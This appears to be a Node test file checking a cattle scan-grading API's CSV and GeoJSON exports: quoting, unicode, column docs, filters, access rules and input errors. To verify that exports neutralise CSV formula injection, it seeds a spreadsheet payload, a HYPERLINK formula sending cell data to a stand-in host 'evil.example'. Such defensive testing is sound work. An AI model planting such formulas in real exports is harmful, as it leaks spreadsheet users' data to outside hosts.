import assert from 'node:assert/strict';
import { readFileSync } from 'node:fs';
import { describe, test } from 'node:test';
import { check as checkGeoJson } from '@placemarkio/check-geojson';
import { parse } from 'csv-parse/sync';
import { type ApiClient, apiClient, signedInClients } from '../test-api-client.ts';
import { useTestApp } from '../test-helpers.ts';
import { seedDevice, seedFarm, seedGrading, seedScan, seedUser, TEST_PASSWORD } from '../test-seed.ts';
import { EXPORT_COLUMNS } from './export-columns.ts';

// The CSV and GeoJSON exports through the API: parsed back with independent parsers (csv-parse,
// @placemarkio/check-geojson), the awkward text a spreadsheet must survive, the columns documented in
// docs/exports.md, filters that narrow and never widen, and errors before the first byte.

const FARM_NAME = 'Ferme Érable, "Nord"';
const INJECTION = '=HYPERLINK("http://evil.example/?d="&A1,"click")';
type Key =
  | 'farm'
  | 'other'
  | 'devA'
  | 'devB'
  | 'devOther'
  | 'plus'
  | 'at'
  | 'minus'
  | 'unicode'
  | 's1'
  | 's2'
  | 's3'
  | 's4'
  | 's5'
  | 'otherAnimal'
  | 'otherGroup';
const ids = {} as Record<Key, string>;

const ctx = useTestApp(
  {},
  {
    async seed({ db }) {
      const sql = db.sql;
      ids.farm = await seedFarm(sql, FARM_NAME, { lon: -79.38, lat: 43.65 });
      ids.other = await seedFarm(sql, 'Other', { lon: -80.5, lat: 42.9 });
      ids.devA = await seedDevice(sql, 'dev-a', ids.farm);
      ids.devB = await seedDevice(sql, 'dev-b', ids.farm);
      ids.devOther = await seedDevice(sql, 'dev-other', ids.other);
      await sql`UPDATE devices SET label = ${INJECTION} WHERE id = ${ids.devA}`;
      await sql`UPDATE devices SET label = ${'Barn 2\r\nwest side'} WHERE id = ${ids.devB}`;
      const animal = async (
        tag: string,
        extra: { sex?: string; breed?: string; eid?: string; born?: string } = {},
      ) =>
        (
          await sql<{ id: string }[]>`
            INSERT INTO animals (farm_id, tag_id, sex, breed, eid, birth_date)
            VALUES (${ids.farm}, ${tag}, ${extra.sex ?? null}, ${extra.breed ?? null}, ${extra.eid ?? null}, ${extra.born ?? null})
            RETURNING id`
        )[0]!.id;
      ids.plus = await animal('+41 7', {
        sex: 'steer',
        breed: 'Angus, Black',
        eid: '982000123456789',
        born: '2024-03-01',
      });
      ids.at = await animal('@SUM(A1)');
      ids.minus = await animal('-12');
      ids.unicode = await animal('Ünïcødé 牛 "7"');
      ids.s1 = await seedScan(sql, {
        farmId: ids.farm,
        deviceId: ids.devA,
        animalId: ids.plus,
        capturedAt: '2025-09-09T14:18:32Z',
        gps: { lon: -79.38, lat: 43.65 },
      });
      await seedGrading(sql, ids.s1, {
        grade: 'A',
        features: { rea_cm2: 80.5, fat_thickness_mm: 6.2 },
        confidence: 0.8732,
      });
      await sql`UPDATE scans SET review_label = ${'\tlabel'}, review_clarity = 4 WHERE id = ${ids.s1}`;
      ids.s2 = await seedScan(sql, {
        farmId: ids.farm,
        deviceId: ids.devA,
        animalId: ids.at,
        capturedAt: '2025-09-09T15:00:00Z',
      });
      const r2 = await seedGrading(sql, ids.s2, {
        grade: 'R',
        features: { rea_cm2: 70, fat_thickness_mm: 5 },
      });
      await sql`UPDATE grading_results SET grade_reasons = ${['too_dark', 'ribeye_cut_off']} WHERE id = ${r2}`;
      ids.s3 = await seedScan(sql, {
        farmId: ids.farm,
        deviceId: ids.devB,
        animalId: ids.minus,
        capturedAt: '2025-09-09T16:00:00Z',
      });
      await seedGrading(sql, ids.s3, { grade: 'M', features: { rea_cm2: 77, fat_thickness_mm: null } });
      ids.s4 = await seedScan(sql, {
        farmId: ids.farm,
        deviceId: ids.devB,
        capturedAt: '2025-09-10T09:00:00Z',
        gps: null,
      });
      ids.s5 = await seedScan(sql, {
        farmId: ids.farm,
        deviceId: ids.devB,
        animalId: ids.unicode,
        capturedAt: '2025-09-08T12:00:00Z',
      });
      const tech = await seedUser(sql, 'tech@example.com', ['technician'], { farms: [{ id: ids.farm }] });
      await seedGrading(sql, ids.s5, {
        grade: 'A',
        features: { rea_cm2: 70, fat_thickness_mm: 5 },
        createdAt: '2025-09-08T12:05:00Z',
      });
      await seedGrading(sql, ids.s5, {
        grade: 'A',
        features: { rea_cm2: 72.5, fat_thickness_mm: 5.5 },
        createdBy: tech.id,
        createdAt: '2025-09-08T13:00:00Z',
      });
      for (const at of ['2025-09-09T10:00:00Z', '2025-09-09T11:00:00Z']) {
        const id = await seedScan(sql, { farmId: ids.other, deviceId: ids.devOther, capturedAt: at });
        await seedGrading(sql, id, { grade: 'R' });
      }
      const [otherAnimal] =
        await sql`INSERT INTO animals (farm_id, tag_id) VALUES (${ids.other}, 'T1') RETURNING id`;
      ids.otherAnimal = otherAnimal!.id;
      const [otherGroup] =
        await sql`INSERT INTO contemporary_groups (farm_id, name) VALUES (${ids.other}, 'G') RETURNING id`;
      ids.otherGroup = otherGroup!.id;
      await seedUser(sql, 'farmer@example.com', ['farmer'], { farms: [{ id: ids.farm, owner: true }] });
      await seedUser(sql, 'stranger@example.com', ['farmer'], { farms: [{ id: ids.other, owner: true }] });
      await seedUser(sql, 'admin@example.com', ['admin']);
    },
  },
);

const as = signedInClients(() => ctx.server.app, TEST_PASSWORD);

type Row = Record<string, string>;
const parseCsv = (text: string): Row[] =>
  parse(text, { columns: true, bom: true, relax_column_count: false });
const byId = (rows: Row[]) => new Map(rows.map((r) => [r.scan_id!, r]));
const NUMERIC = new Set(EXPORT_COLUMNS.filter((c) => c.kind === 'number').map((c) => c.name));

describe('CSV export', () => {
  test('one row per visible scan; RFC 4180 round trip of quotes, commas, CR/LF and unicode; formulas neutralised', async () => {
    const res = await (await as('farmer@example.com')).request('GET', '/api/v1/exports/scans.csv');
    assert.equal(res.status, 200);
    assert.equal(res.headers.get('content-type'), 'text/csv; charset=utf-8; header=present');
    assert.match(
      res.headers.get('content-disposition') ?? '',
      /^attachment; filename="cti-scans-all-\d{8}T\d{6}Z\.csv"$/,
    );
    assert.equal(res.headers.get('cache-control'), 'no-store');
    assert.ok(res.text.endsWith('\r\n'));
    assert.equal(res.text.split('\r\n')[0], EXPORT_COLUMNS.map((c) => c.name).join(','));
    const rows = parseCsv(res.text);
    assert.deepEqual(new Set(rows.map((r) => r.scan_id)), new Set([ids.s1, ids.s2, ids.s3, ids.s4, ids.s5]));
    assert.deepEqual(
      rows.map((r) => r.scan_id),
      [ids.s4, ids.s3, ids.s2, ids.s1, ids.s5],
      'newest capture first, like the scans list',
    );
    const r = byId(rows);
    const s1 = r.get(ids.s1)!;
    assert.equal(s1.farm_name, FARM_NAME);
    assert.equal(s1.device_label, `'${INJECTION}`);
    assert.equal(s1.animal_tag_id, "'+41 7");
    assert.equal(s1.animal_breed, 'Angus, Black');
    assert.equal(s1.animal_eid, '982000123456789');
    assert.equal(s1.animal_sex, 'steer');
    assert.equal(s1.animal_birth_date, '2024-03-01');
    assert.equal(s1.review_label, "'\tlabel");
    assert.equal(s1.review_clarity, '4');
    assert.equal(s1.longitude, '-79.38', 'a negative number stays a number');
    assert.equal(s1.latitude, '43.65');
    assert.equal(s1.captured_at, '2025-09-09T14:18:32.000Z');
    assert.match(s1.received_at!, /^\d{4}-\d{2}-\d{2}T\d{2}:\d{2}:\d{2}\.\d{3}Z$/);
    assert.deepEqual(
      [s1.grade, s1.rea_cm2, s1.fat_thickness_mm, s1.confidence, s1.corrected_by_hand, s1.status],
      ['A', '80.5', '6.2', '0.8732', 'false', 'graded'],
    );
    assert.equal(r.get(ids.s2)!.animal_tag_id, "'@SUM(A1)");
    assert.deepEqual([r.get(ids.s2)!.grade, r.get(ids.s2)!.grade_reasons], ['R', 'too_dark;ribeye_cut_off']);
    assert.deepEqual(
      [r.get(ids.s3)!.rea_cm2, r.get(ids.s3)!.fat_thickness_mm],
      ['77', ''],
      'missing is empty, not 0',
    );
    assert.equal(r.get(ids.s3)!.animal_tag_id, "'-12");
    assert.equal(r.get(ids.s3)!.device_label, 'Barn 2\r\nwest side');
    const s4 = r.get(ids.s4)!;
    assert.deepEqual(
      [s4.latitude, s4.longitude, s4.grade, s4.grade_reasons, s4.rea_cm2, s4.graded_at, s4.corrected_by_hand],
      ['', '', '', '', '', '', ''],
    );
    assert.equal(s4.status, 'ingested');
    const s5 = r.get(ids.s5)!;
    assert.equal(s5.animal_tag_id, 'Ünïcødé 牛 "7"');
    assert.deepEqual(
      [s5.rea_cm2, s5.fat_thickness_mm, s5.corrected_by_hand, s5.model_name, s5.graded_at],
      ['72.5', '5.5', 'true', 'manual', '2025-09-08T13:00:00.000Z'],
      'the latest grading result: the correction by hand',
    );
    // Whatever a spreadsheet sees: no text cell starts like a formula; numeric cells are plain numbers.
    for (const row of rows) {
      for (const [name, value] of Object.entries(row)) {
        if (NUMERIC.has(name)) assert.ok(value === '' || Number.isFinite(Number(value)), `${name}=${value}`);
        else assert.doesNotMatch(value, /^[=+\-@\t\r]/, `${name} of ${row.scan_id}`);
      }
    }
  });

  test('the columns are exactly the ones docs/exports.md documents, in order', () => {
    const doc = readFileSync(new URL('../../../../docs/exports.md', import.meta.url), 'utf8');
    const documented = [...doc.matchAll(/^\| `([a-z_0-9]+)` +\|/gm)].map((m) => m[1]);
    assert.deepEqual(
      documented,
      EXPORT_COLUMNS.map((c) => c.name),
    );
  });

  test('bom=true starts the file with a UTF-8 byte order mark', async () => {
    // Read the bytes: Response.text() drops a leading BOM, as every UTF-8 decoder does.
    const res = await ctx.server.app.request(`/api/v1/exports/scans.csv?bom=true&farm_id=${ids.farm}`, {
      headers: { cookie: (await as('farmer@example.com')).cookie! },
    });
    assert.equal(res.status, 200);
    const bytes = Buffer.from(await res.arrayBuffer());
    assert.deepEqual([...bytes.subarray(0, 11)], [0xef, 0xbb, 0xbf, ...Buffer.from('scan_id,')]);
    assert.match(
      res.headers.get('content-disposition') ?? '',
      /filename="cti-scans-ferme-erable-nord-\d{8}T\d{6}Z\.csv"/,
    );
    assert.equal(parseCsv(bytes.toString('utf8')).length, 5);
  });

  test('filters narrow; a farm, group, animal or device you cannot see is the same 404 as a missing one', async () => {
    const farmer = await as('farmer@example.com');
    const csv = async (client: ApiClient, query: string) => {
      const res = await client.request('GET', `/api/v1/exports/scans.csv?${query}`);
      return { res, rows: res.status === 200 ? parseCsv(res.text) : [] };
    };
    assert.deepEqual(
      (await csv(farmer, 'grade=R')).rows.map((r) => r.scan_id),
      [ids.s2],
    );
    assert.deepEqual(
      (await csv(farmer, `from=2025-09-09T00:00:00Z&to=2025-09-09T15:30:00Z`)).rows.map((r) => r.scan_id),
      [ids.s2, ids.s1],
    );
    assert.deepEqual(
      new Set((await csv(farmer, `device_id=${ids.devB}`)).rows.map((r) => r.scan_id)),
      new Set([ids.s3, ids.s4, ids.s5]),
    );
    const missing = '00000000-0000-4000-8000-000000000000';
    for (const email of ['farmer@example.com', 'tech@example.com']) {
      const client = await as(email);
      for (const [param, hidden] of [
        ['farm_id', ids.other],
        ['in_geofence_of', ids.other],
        ['group_id', ids.otherGroup],
        ['animal_id', ids.otherAnimal],
        ['device_id', ids.devOther],
      ] as const) {
        const refused = await csv(client, `${param}=${hidden}`);
        const absent = await csv(client, `${param}=${missing}`);
        assert.equal(refused.res.status, 404, `${email} ${param}`);
        assert.equal(refused.res.headers.get('content-disposition'), null);
        assert.deepEqual({ ...refused.res.body, request_id: '' }, { ...absent.res.body, request_id: '' });
      }
    }
    const admin = await as('admin@example.com');
    assert.equal((await csv(admin, `farm_id=${ids.other}`)).rows.length, 2);
    assert.equal((await csv(admin, '')).rows.length, 7);
    const stranger = await as('stranger@example.com');
    assert.equal((await csv(stranger, '')).rows.length, 2, 'only their own farm');
    assert.equal((await apiClient(ctx.server.app).request('GET', '/api/v1/exports/scans.csv')).status, 401);
  });

  test('bad input: a JSON 422 naming the parameter, before any CSV', async () => {
    const farmer = await as('farmer@example.com');
    for (const [query, pointer] of [
      ['from=yesterday', '/query/from'],
      ['bom=maybe', '/query/bom'],
      ['format=xlsx', '/query/format'],
      ['status=lost', '/query/status'],
      ['farm_id=42', '/query/farm_id'],
      // RFC 3339, but not an instant Postgres holds (review r9 F6: a 500 on both exports).
      ['to=9999-12-31T23:59:59-23:59', '/query/to'],
      ['from=0001-01-01T00:00:00%2B23:59', '/query/from'],
    ]) {
      const res = await farmer.request('GET', `/api/v1/exports/scans.csv?${query}`);
      assert.equal(res.status, 422, query);
      assert.match(res.headers.get('content-type') ?? '', /^application\/json/);
      assert.ok(
        res.body.problems.some((p: { pointer: string }) => p.pointer === pointer),
        query,
      );
    }
  });
});

describe('GeoJSON export', () => {
  test('a valid RFC 7946 FeatureCollection: one feature per scan, [lon, lat], null geometry without GPS', async () => {
    const res = await (await as('tech@example.com')).request(
      'GET',
      `/api/v1/exports/scans.geojson?farm_id=${ids.farm}`,
    );
    assert.equal(res.status, 200);
    assert.equal(res.headers.get('content-type'), 'application/geo+json');
    assert.match(
      res.headers.get('content-disposition') ?? '',
      /filename="cti-scans-ferme-erable-nord-.*\.geojson"/,
    );
    const fc = checkGeoJson(res.text) as unknown as {
      features: {
        id: string;
        geometry: { coordinates: number[] } | null;
        properties: Record<string, unknown>;
      }[];
    };
    assert.equal(fc.features.length, 5);
    const f = new Map(fc.features.map((x) => [x.id, x]));
    assert.deepEqual(f.get(ids.s1)!.geometry, { type: 'Point', coordinates: [-79.38, 43.65] });
    assert.equal(f.get(ids.s4)!.geometry, null);
    const p1 = f.get(ids.s1)!.properties;
    assert.deepEqual(
      [
        p1.farm_name,
        p1.device_label,
        p1.animal_tag_id,
        p1.rea_cm2,
        p1.fat_thickness_mm,
        p1.corrected_by_hand,
      ],
      [FARM_NAME, INJECTION, '+41 7', 80.5, 6.2, false],
      'JSON keeps text as it is: no spreadsheet reads it',
    );
    assert.equal(f.get(ids.s3)!.properties.fat_thickness_mm, null);
    assert.deepEqual(f.get(ids.s2)!.properties.grade_reasons, ['too_dark', 'ribeye_cut_off']);
    assert.equal(f.get(ids.s4)!.properties.grade_reasons, null);
    assert.ok(!('latitude' in p1), 'the position is the geometry');
  });

  test('same access rules: another farm is a 404, an empty selection a valid empty collection', async () => {
    const farmer = await as('farmer@example.com');
    assert.equal(
      (await farmer.request('GET', `/api/v1/exports/scans.geojson?farm_id=${ids.other}`)).status,
      404,
    );
    const empty = await farmer.request('GET', '/api/v1/exports/scans.geojson?from=2030-01-01T00:00:00Z');
    assert.equal(empty.status, 200);
    assert.deepEqual(checkGeoJson(empty.text), { type: 'FeatureCollection', features: [] });
  });
});
